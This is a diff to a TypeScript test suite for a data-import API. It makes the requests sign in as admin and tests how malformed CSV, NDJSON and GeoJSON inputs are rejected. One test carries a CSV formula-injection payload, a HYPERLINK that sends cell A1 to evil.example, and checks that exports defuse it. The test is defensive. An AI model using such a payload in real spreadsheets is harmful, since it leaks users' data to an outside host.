@@ -8,6 +8,14 @@ import { MAX_RECORD } from './blocks.ts';
 import { csv, importKit } from './testing.ts';
 
 const kit = importKit();
+/** Imports are the admin's: every request of this file is signed in as admin. */
+const admin = () => kit.t.as('admin');
+
+const post = async (query: string, body: string | Uint8Array, headers: Record<string, string> = {}) => {
+  const response = await admin().request(`/api/v1/imports?${query}`, { method: 'POST', body: body as BodyInit, headers });
+  const type = response.headers.get('content-type') ?? '';
+  return { status: response.status, headers: response.headers, body: type.includes('json') ? await response.json() : await response.text() };
+};
 
 /** A body made as it is read, `total` bytes in 64 kB chunks: the test itself holds one chunk. */
 function generated(head: string, line: string, total: number) {
@@ -25,7 +33,7 @@ function generated(head: string, line: string, total: number) {
 }
 
 const postStream = (query: string, body: ReadableStream<Uint8Array>) =>
-  kit.t.app.request(`/api/v1/imports?${query}`, { method: 'POST', body, duplex: 'half' } as RequestInit);
+  admin().request(`/api/v1/imports?${query}`, { method: 'POST', body, duplex: 'half' } as RequestInit);
 
 describe('a CSV quote that is never closed', () => {
   it.each([
@@ -49,7 +57,7 @@ describe('a CSV quote that is never closed', () => {
     expect(body.sent()).toBeLessThan(MAX_RECORD + 1024 * 1024);
     expect(seconds).toBeLessThan(5);
     expect(grown, `rss grew by ${(grown / 1048576).toFixed(0)} MB`).toBeLessThan(200 * 1024 * 1024);
-    const job = (await kit.t.getJson(problem.job)).body;
+    const job = (await kit.t.getJson(problem.job, 'admin')).body;
     expect(job).toMatchObject({ status: 'failed', error: expect.stringMatching(/a quote \("\) is probably not closed/) });
   });
 
@@ -58,7 +66,7 @@ describe('a CSV quote that is never closed', () => {
     const p = inside[1];
     const note = '第一行\n"引号" 和 , 逗号\n'.repeat(20_000); // ~0.6 MB
     const text = csv([['key', 'category', 'lon', 'lat', 'note'], ['long-1', 'RP01', p.lon, p.lat, `"${note.replaceAll('"', '""')}"`], ['long-2', 'RP01', p.lon, p.lat, '短']]);
-    const { status, body } = await kit.post('format=csv', text);
+    const { status, body } = await post('format=csv', text);
     expect(status).toBe(201);
     expect(body.counts).toMatchObject({ read: 2, inserted: 2, rejected: 0 });
     const [row] = await kit.entities('long-1');
@@ -80,7 +88,7 @@ describe('records nested too deep', () => {
     const p = inside[2];
     const deep = `{"id":"deep-2","lon":${p.lon},"lat":${p.lat},"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
     const lines = [JSON.stringify({ id: 'deep-1', lon: p.lon, lat: p.lat }), deep, JSON.stringify({ id: 'deep-3', lon: p.lon, lat: p.lat, x: [[[1]]] })];
-    const { status, body } = await kit.post('format=ndjson&category=RP01', lines.join('\n'));
+    const { status, body } = await post('format=ndjson&category=RP01', lines.join('\n'));
     expect(status).toBe(201);
     expect(body.counts).toMatchObject({ read: 3, inserted: 2, rejected: 1 });
     expect(body.rejections.first).toEqual([{ line: 2, reason: 'nested deeper than 32 levels of arrays and objects', raw: expect.stringMatching(/^\{"id":"deep-2"/) }]);
@@ -91,13 +99,13 @@ describe('records nested too deep', () => {
     const p = inside[2];
     const feature = (properties: string) => `{"type":"Feature","geometry":{"type":"Point","coordinates":[${p.lon},${p.lat}]},"properties":${properties}}`;
     const collection = (...features: string[]) => `{"type":"FeatureCollection","features":[${features.join(',')}]}`;
-    const deep = await kit.post('format=geojson&category=RP01', collection(feature('{}'), feature(`{"x":${'['.repeat(50)}${']'.repeat(50)}}`)));
+    const deep = await post('format=geojson&category=RP01', collection(feature('{}'), feature(`{"x":${'['.repeat(50)}${']'.repeat(50)}}`)));
     expect(deep.status).toBe(400);
     expect(deep.body.detail).toMatch(/: feature 2 is nested deeper than 32 levels of arrays and objects$/);
-    const large = await kit.post('format=geojson&category=RP01', collection(feature(`{"x":"${'x'.repeat(MAX_RECORD + 1)}"}`)));
+    const large = await post('format=geojson&category=RP01', collection(feature(`{"x":"${'x'.repeat(MAX_RECORD + 1)}"}`)));
     expect(large.status).toBe(400);
     expect(large.body.detail).toMatch(/: feature 1 is larger than 1 MB$/);
-    const fine = await kit.post('format=geojson&category=RP01', collection(feature('{"x":[[[[1]]]]}')));
+    const fine = await post('format=geojson&category=RP01', collection(feature('{"x":[[[[1]]]]}')));
     expect(fine.status).toBe(201);
   });
 });
@@ -107,7 +115,7 @@ describe('text the database cannot store', () => {
     const { inside } = await kit.places();
     const p = inside[3];
     const text = csv([['key', 'category', 'lon', 'lat', 'name'], ['nul-1', 'RP01', p.lon, p.lat, '张三'], ['nul-2', 'RP01', p.lon, p.lat, '李\u0000四']]);
-    const fromCsv = await kit.post('format=csv', text);
+    const fromCsv = await post('format=csv', text);
     expect(fromCsv.status).toBe(201);
     expect(fromCsv.body.counts).toMatchObject({ inserted: 1, rejected: 1 });
     expect(fromCsv.body.rejections.first).toEqual([{ line: 3, reason: 'contains a NUL character (U+0000), which cannot be stored', raw: `nul-2,RP01,${p.lon},${p.lat},李\u2400四` }]);
@@ -118,7 +126,7 @@ describe('text the database cannot store', () => {
       `{"id":"nul-5","lon":${p.lon},"lat":${p.lat},"k\\u0000":1}`,
       `{"id":"nul-6","lon":${p.lon},"lat":${p.lat}}`,
     ];
-    const fromJson = await kit.post('format=ndjson&category=RP01', lines.join('\n'));
+    const fromJson = await post('format=ndjson&category=RP01', lines.join('\n'));
     expect(fromJson.status).toBe(201);
     expect(fromJson.body.counts).toMatchObject({ inserted: 1, rejected: 3 });
     expect(fromJson.body.rejections.first.map((r: any) => r.reason)).toEqual([
@@ -126,12 +134,12 @@ describe('text the database cannot store', () => {
       'tags.0 contains a lone surrogate (not valid Unicode), which cannot be stored',
       'a field name contains a NUL character (U+0000), which cannot be stored',
     ]);
-    const report = await (await kit.t.app.request(fromJson.body.rejections.csv)).text();
+    const report = await (await admin().request(fromJson.body.rejections.csv)).text();
     expect(report).toContain('nul-3');
   });
 
   it('fails a CSV file whose header holds NUL', async () => {
-    const { status, body } = await kit.post('format=csv&category=RP01', 'key,lon,la\u0000t\n1,118.6,32.1\n');
+    const { status, body } = await post('format=csv&category=RP01', 'key,lon,la\u0000t\n1,118.6,32.1\n');
     expect(status).toBe(400);
     expect(body.detail).toMatch(/the CSV header contains a NUL character \(U\+0000\)$/);
   });
@@ -147,13 +155,13 @@ describe('formulas in cells', () => {
       ['formula-1', 'LE02', p.lon, p.lat, `"${formula.replaceAll('"', '""')}"`],
       ['=1+1', 'LE02', 'x', p.lat, 'rejected'],
     ]);
-    const { body } = await kit.post('format=csv', text);
+    const { body } = await post('format=csv', text);
     expect(body.counts).toMatchObject({ inserted: 1, rejected: 1 });
     const [row] = await kit.entities('formula-1');
     expect(row.attrs.note).toBe(formula);
-    const exported = await (await kit.t.app.request(`/api/v1/entities?category=LE02&grid=${p.grid}&format=csv`)).text();
+    const exported = await (await admin().request(`/api/v1/entities?category=LE02&grid=${p.grid}&format=csv`)).text();
     expect(exported).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
-    const report = await (await kit.t.app.request(body.rejections.csv)).text();
+    const report = await (await admin().request(body.rejections.csv)).text();
     expect(report).toContain(`,"'=1+1,LE02,x,${p.lat},rejected"\r\n`);
   });
 });
